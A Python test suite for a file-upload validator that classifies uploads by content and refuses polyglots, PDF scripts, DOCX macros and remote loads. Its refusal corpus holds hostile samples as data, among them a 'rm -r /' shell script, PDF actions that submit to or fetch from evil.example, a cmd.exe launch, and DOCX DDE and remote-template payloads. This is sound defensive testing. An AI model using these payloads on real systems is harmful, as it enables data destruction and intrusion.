"""What is taken is told by its content alone, and what could be two things, or acts by itself, is refused with a sentence (S28)."""

import tracemalloc

import pytest
from PIL import Image

from kanazawa_exchange.lib import content_types as kinds
from kanazawa_exchange.lib import uploads
from kanazawa_exchange.lib.uploads import avif, heif, packages, pdfs, second_kinds, taking

from . import corpus
from .corpus import docx, field, object_stream, pdf, picture, relation, scene, stream, upload

GOOD = {
    "pdf": (pdf(), kinds.PDF),
    "pdf-with-words": (pdf(stream(b"BT (Hello <html lang> and /JS) Tj ET")), kinds.PDF),
    "pdf-with-objects-packed": (pdf(object_stream(b"<< /Type /Font >>")), kinds.PDF),
    "pdf-with-an-inner-link": (pdf(catalog=b"/OpenAction [3 0 R /Fit]"), kinds.PDF),
    "pdf-with-an-address": (pdf(b"<< /S /URI /URI (https://example.org/) >>"), kinds.PDF),
    "pdf-with-line-ends-behind": (pdf(tail=b"\r\n\r\n\0\0"), kinds.PDF),
    "docx": (docx(), kinds.DOCX),
    "docx-with-an-address": (docx(relation("hyperlink", "mailto:aiko@example.org")), kinds.DOCX),
    "docx-with-a-link": (docx(relation("hyperlink", "https://example.org/")), kinds.DOCX),
    "docx-with-a-chart": (docx(word__embeddings__Sheet1_xlsx=b"PK"), kinds.DOCX),
    "docx-with-a-page-number": (docx(body=field("PAGE")), kinds.DOCX),
    "docx-with-a-picture": (
        docx(relation("image", "media/i.png", False), word__media__i_png=picture("PNG")),
        kinds.DOCX,
    ),
    "jpeg": (picture("JPEG"), kinds.JPEG),
    "jpeg-progressive": (picture("JPEG", progressive=True), kinds.JPEG),
    "jpeg-grey": (picture("JPEG", scene(mode="L")), kinds.JPEG),
    "jpeg-cmyk": (picture("JPEG", scene(mode="CMYK")), kinds.JPEG),
    "jpeg-with-a-second-picture": (corpus.several(), kinds.JPEG),
    "jpeg-with-a-tail-nobody-knows": (picture("JPEG") + b"MotionPhoto_Data" * 100, kinds.JPEG),
    "jpeg-with-damaged-notes": (picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x09\x01\x12"), kinds.JPEG),
    "png": (picture("PNG"), kinds.PNG),
    "png-of-one-bit": (picture("PNG", scene(mode="1")), kinds.PNG),
    "png-with-a-palette": (picture("PNG", scene(mode="P"), transparency=0), kinds.PNG),
    "png-transparent": (picture("PNG", scene(mode="RGBA")), kinds.PNG),
    "png-grey-transparent": (picture("PNG", scene(mode="LA")), kinds.PNG),
    "png-of-sixteen-bits": (picture("PNG", scene(mode="I;16")), kinds.PNG),
    "webp": (picture("WEBP"), kinds.WEBP),
    "webp-lossless": (picture("WEBP", lossless=True), kinds.WEBP),
    "webp-transparent": (picture("WEBP", scene(mode="RGBA")), kinds.WEBP),
    "avif": (picture("AVIF"), kinds.JPEG),
    "avif-grey": (picture("AVIF", scene(mode="L")), kinds.JPEG),
    "avif-transparent": (picture("AVIF", Image.new("RGBA", (60, 40), (0, 0, 0, 90))), kinds.JPEG),
    "avif-with-all-colours": (picture("AVIF", subsampling="4:4:4"), kinds.JPEG),
    "avif-of-another-first-brand": (picture("AVIF").replace(b"ftypavif", b"ftypmif1", 1), kinds.JPEG),
}

ONLY = "Only these kinds"
TWO = "two kinds of files in one"
CUT = "cut off"
ACTS = "scripts or actions"
LOADS = "loads something from elsewhere"
DAMAGED = "is damaged"
MACROS = "macros"
BAD = {
    "empty": (b"", "The file is empty"),
    "html": (corpus.HTML, ONLY),
    "svg": (corpus.SVG, ONLY),
    "svg-behind-blanks": (b"  \n" + corpus.SVG, ONLY),
    "php": (corpus.PHP, ONLY),
    "exe": (corpus.EXE, ONLY),
    "shell": (b"#!/bin/sh\nrm -r /\n", ONLY),
    "gif": (picture("GIF"), ONLY),
    "tiff": (picture("TIFF"), ONLY),
    "bmp": (picture("BMP"), ONLY),
    "zip": (corpus.ZIP, ONLY),
    "jar": (corpus.package({"META-INF/MANIFEST.MF": "x"}), ONLY),
    "xlsx": (corpus.package({"[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>"}), ONLY),
    "pptx": (corpus.package({"[Content_Types].xml": "<x/>", "ppt/presentation.xml": "<x/>"}), ONLY),
    "old-doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "of an old kind"),
    "gif-that-is-a-pdf-too": (b"GIF89a;" + pdf(), ONLY),
    "pdf-behind-something": (b"\n" + pdf(), ONLY),
    "jpeg-magic-alone": (b"\xff\xd8\xff\xe0" + b"\0" * 100, DAMAGED),
    "png-magic-alone": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, DAMAGED),
    "webp-magic-alone": (b"RIFF\0\0\0\0WEBP" + b"\0" * 100, DAMAGED),
    "avif-magic-alone": (b"\0\0\0 ftypavif\0\0\0\0avifmif1miafMA1B" + b"\0" * 100, DAMAGED),
    "avif-that-says-heic": (picture("AVIF").replace(b"ftypavif", b"ftypheic", 1), "HEIC" if not heif.IS_HERE else DAMAGED),
    "avif-that-says-jpeg": (b"\xff\xd8\xff" + picture("AVIF"), DAMAGED),
    "avif-of-an-unknown-brand": (picture("AVIF").replace(b"ftypavif\0\0\0\0avif", b"ftypmp42\0\0\0\0mp42", 1), ONLY),
    "png-that-says-avif": (picture("AVIF")[:32] + picture("PNG"), DAMAGED),
    "png-that-says-jpeg": (b"\xff\xd8\xff" + picture("PNG"), DAMAGED),
    "jpeg-cut": (picture("JPEG", scene(400, 400))[:-400], DAMAGED),
    "png-cut": (picture("PNG", scene(400, 400))[:-60], DAMAGED),
    "webp-cut": (picture("WEBP", scene(400, 400))[:-60], DAMAGED),
    "avif-cut": (picture("AVIF", scene(400, 400))[:-60], DAMAGED),
    "avif-without-its-table": (picture("AVIF").replace(b"iloc", b"ilox", 1), DAMAGED),
    "png-with-a-damaged-part": (picture("PNG").replace(b"IDAT", b"IDAX"), DAMAGED),
    "jpeg-with-a-zip": (picture("JPEG") + corpus.ZIP, TWO),
    "jpeg-with-html": (picture("JPEG") + corpus.HTML, TWO),
    "jpeg-with-php-in-its-comment": (picture("JPEG", comment=corpus.PHP), TWO),
    "jpeg-with-svg": (picture("JPEG") + corpus.SVG, TWO),
    "png-with-a-jar": (picture("PNG") + corpus.ZIP, TWO),
    "webp-with-a-zip": (picture("WEBP") + corpus.ZIP, TWO),
    "avif-with-a-zip": (picture("AVIF") + corpus.ZIP, TWO),
    "avif-with-html": (picture("AVIF") + corpus.box(b"free", corpus.HTML), TWO),
    "avif-with-php-in-its-notes": (picture("AVIF", xmp=corpus.PHP), TWO),
    "pdf-with-a-zip": (pdf() + corpus.ZIP, TWO),
    "pdf-in-a-zip-comment": (pdf() + corpus.ZIP + b"%%EOF", TWO),
    "pdf-with-html-on-top": (pdf().replace(b"%\xe2", b"<html><script>x</script>%", 1), TWO),
    "pdf-with-html-behind": (pdf() + corpus.HTML, TWO),
    "pdf-with-php": (pdf(stream(corpus.PHP, packed=False)), TWO),
    "animated-webp": (corpus.moving("WEBP"), "moves"),
    "animated-png": (corpus.moving("PNG"), "moves"),
    "pixel-flood": (corpus.flood(), "megapixels"),
    "webp-flood": (corpus.webp_claiming(16_000, 16_000), "megapixels"),
    "webp-flood-moving": (corpus.webp_claiming(6_000, 5_000, animated=True), "megapixels"),
    "animated-avif": (corpus.moving("AVIF"), "moves"),
    "animated-avif-that-says-it-is-still": (corpus.moving("AVIF").replace(b"avis", b"avif"), "moves"),
    "avif-of-two-frames-in-one": (corpus.avif_claiming(60, 40, frames=2), "moves"),
    "avif-flood": (corpus.avif_saying(16_000, 16_000, picture("AVIF")), "megapixels"),
    "avif-flood-within": (corpus.avif_claiming(13_000, 13_000), "megapixels"),
    "avif-whose-frames-say-their-size": (corpus.avif_claiming(60, 40, is_reduced=False), "megapixels"),
    "pdf-cut": (pdf()[:-30], CUT),
    "pdf-without-a-table": (pdf().replace(b"xref\n0", b"xxxx\n0", 1), CUT),
    "pdf-with-a-tail": (pdf() + b"something else", CUT),
    "pdf-head-alone": (b"%PDF-1.7\n", CUT),
    "pdf-encrypted": (pdf(b"<< /Filter /Standard /V 4 >>", trailer=b"/Encrypt 4 0 R"), "locked or restricted"),
    "pdf-script": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", catalog=b"/OpenAction 4 0 R"), ACTS),
    "pdf-script-disguised": (pdf(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"), ACTS),
    "pdf-script-packed": (pdf(object_stream(b"<</S/JavaScript/JS(app.alert(1))>>")), ACTS),
    "pdf-script-of-a-film": (pdf(b"<< /S /Rendition /JS (app.alert(1)) >>", catalog=b"/AA << /O 4 0 R >>"), ACTS),
    "pdf-sends-itself": (pdf(b"<< /S /SubmitForm /F (http://evil.example/) >>", catalog=b"/OpenAction 4 0 R"), ACTS),
    "pdf-goes-elsewhere": (pdf(b"<< /S /GoToR /F (\\\\evil.example\\x) >>", catalog=b"/OpenAction 4 0 R"), ACTS),
    "pdf-launch": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTS),
    "pdf-form-with-scripts": (pdf(b"<< /XFA 5 0 R >>"), ACTS),
    "pdf-film": (pdf(b"<< /Subtype /RichMedia >>"), ACTS),
    "pdf-with-files": (pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"), "other files inside"),
    "pdf-with-a-file-packed": (pdf(object_stream(b"<</Type/EmbeddedFile>>")), "other files inside"),
    "pdf-with-unreadable-parts": (pdf(stream(b"9 0 <<>>", b"/Type /ObjStm /N 1 /First 4", packed=False)), "cannot be looked into"),
    "docx-macros": (docx(word__vbaProject_bin=b"x"), MACROS),
    "docx-macros-by-its-type": (docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS),
    "docx-template-from-elsewhere": (docx(relation("attachedTemplate", "https://evil.example/t.dotm")), LOADS),
    "docx-picture-from-elsewhere": (docx(relation("image", "\\\\evil.example\\share\\i.png")), LOADS),
    "docx-link-to-a-file": (docx(relation("hyperlink", "file:///c:/windows/system32/cmd.exe")), LOADS),
    "docx-link-with-a-script": (docx(relation("hyperlink", "javascript:alert(1)")), LOADS),
    "docx-object": (docx(relation("oleObject", "embeddings/o.bin", False), word__embeddings__o_bin=b"x"), LOADS),
    "docx-dde": (docx(body=field("DD", "EAUTO c:\\\\cmd.exe")), LOADS),
    "docx-include": (docx(body='<w:fldSimple w:instr="INCLUDETEXT https://evil.example/"/>'), LOADS),
    "docx-html-inside": (docx(relation("aFChunk", "chunk.html", False), word__chunk_html=corpus.HTML), LOADS),
    "docx-entities": (docx().replace(b"", b"") and corpus.package({
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    }), DAMAGED),
    "docx-behind-something": (b"PK\x03\x04" + b"\0" * 26 + docx(), DAMAGED),
    "docx-with-a-tail": (docx() + b"tail", DAMAGED),
    "docx-without-words": (corpus.package({"[Content_Types].xml": "<Types/>", "word/document.xml": "no words"}), DAMAGED),
}  # fmt: skip


def taken(content: bytes, policy: uploads.Policy = uploads.ANYTHING_SENT) -> str:
    with uploads.taken(upload(content), policy) as found:
        return found.content_type


def test_the_corpus_is_large_enough() -> None:
    assert len(GOOD) + len(BAD) >= 60


@pytest.mark.parametrize("name", GOOD)
def test_what_is_allowed_is_taken_as_what_it_is(name: str) -> None:
    content, kind = GOOD[name]
    assert taken(content) == kind


@pytest.mark.parametrize("name", BAD)
def test_anything_else_is_refused_with_its_reason(name: str) -> None:
    content, reason = BAD[name]
    with pytest.raises(uploads.UploadRefused, match=reason):
        taken(content)


@pytest.mark.parametrize("ending", ["pdf", "exe", "pdf.exe", "php", "html", "svg", ""])
def test_the_name_and_the_type_that_the_browser_says_are_not_asked(ending: str) -> None:
    with uploads.taken(corpus.upload(picture("PNG"), f"paper.{ending}"), uploads.PHOTOS) as found:
        assert found.content_type == kinds.PNG


def test_a_policy_takes_its_own_kinds_and_names_them() -> None:
    with pytest.raises(uploads.UploadRefused, match="JPEG, PNG, WebP, AVIF"):
        taken(pdf(), uploads.PHOTOS)
    small = uploads.Policy((kinds.PDF,), most_bytes=2 * 1024 * 1024)
    with pytest.raises(uploads.UploadRefused, match="larger than 2 MB"):
        taken(pdf(stream(bytes(3 * 1024 * 1024), packed=False)), small)
    assert taken(pdf(), small) == kinds.PDF


def test_an_oversized_file_is_refused_before_it_is_read() -> None:
    file = upload(b"%PDF-")
    file.size = 10 * 1024 * 1024 + 1
    file.file = None  # type: ignore[assignment]  # whoever reads it fails
    with pytest.raises(uploads.UploadRefused, match="larger than 10 MB"), uploads.taken(file, uploads.ANYTHING_SENT):
        pass


@pytest.mark.skipif(heif.IS_HERE, reason="the extra heif is installed")
def test_without_the_extra_a_heic_is_refused_with_the_way_to_a_jpeg() -> None:
    with pytest.raises(uploads.UploadRefused, match="Most Compatible"):
        taken(corpus.HEIC_HEAD)
    assert "HEIC" not in uploads.ANYTHING_SENT.kinds
    assert ".heic" not in uploads.ANYTHING_SENT.accept


def test_where_pillow_reads_no_avif_it_is_refused_with_a_way_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(avif, "IS_HERE", False)
    with pytest.raises(uploads.UploadRefused, match="AVIF pictures cannot be read here"):
        taken(picture("AVIF"))
    assert "AVIF" not in uploads.PHOTOS.kinds
    assert ".avif" not in uploads.PHOTOS.accept


@pytest.mark.parametrize("module", ["packages", "pdfs"])
def test_what_unpacks_to_a_flood_is_refused(module: str, monkeypatch: pytest.MonkeyPatch) -> None:
    limits = {"packages": (packages, "XML_LIMIT"), "pdfs": (pdfs, "UNPACKED_LIMIT")}
    monkeypatch.setattr(*limits[module], 1000)
    flood = {"packages": docx(body="<w:p/>" * 1000), "pdfs": pdf(object_stream(b" " * 5000))}[module]
    with pytest.raises(uploads.UploadRefused, match="unpacks to more"):
        taken(flood)


def test_a_document_of_millions_of_empty_elements_takes_no_memory() -> None:
    """Some kilobytes of a Word file; as a tree they would take hundreds of megabytes."""
    content = docx(body="<w:p/>" * 1_000_000)
    assert len(content) < 30_000
    tracemalloc.start()
    try:
        assert taken(content) == kinds.DOCX
        assert tracemalloc.get_traced_memory()[1] < 5 * 1024 * 1024
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(("most", "is_taken"), [(1010, True), (990, False)])
def test_empty_elements_are_counted_over_all_parts(most: int, is_taken: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "ELEMENTS_LIMIT", most)
    content = docx(body="<w:p/>" * 500, word__footer1_xml="<w:ftr xmlns:w='w'>" + "<w:p/>" * 495 + "</w:ftr>")
    if is_taken:
        assert taken(content) == kinds.DOCX
        return
    with pytest.raises(uploads.UploadRefused, match="unpacks to more"):
        taken(content)


# --- Controls: with the guard off, the file comes through ------------------------------------------------------------


@pytest.mark.parametrize("name", ["pdf-script", "pdf-encrypted", "pdf-with-files", "docx-dde", "pdf-with-a-zip"])
def test_control_a_policy_that_does_not_look_into_documents_takes_them(name: str) -> None:
    careless = uploads.Policy(uploads.ANYTHING_SENT.types, is_examined=False)
    assert taken(BAD[name][0], careless) in {kinds.PDF, kinds.DOCX}


@pytest.mark.parametrize("name", ["jpeg-with-a-zip", "jpeg-with-html", "png-with-a-jar"])
def test_control_without_the_search_for_a_second_kind_pillow_takes_the_picture(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(taking, "refuse_second_kind", lambda stream: None)
    assert taken(BAD[name][0]).startswith("image/")


def test_control_without_a_look_at_packed_objects_a_script_comes_through(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "_object_streams", lambda content: 99)
    assert taken(BAD["pdf-script-packed"][0]) == kinds.PDF


def test_control_markup_at_the_seam_of_two_pieces_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(second_kinds, "_CHUNK", 16)
    with pytest.raises(uploads.UploadRefused, match=TWO):
        taken(BAD["jpeg-with-html"][0])
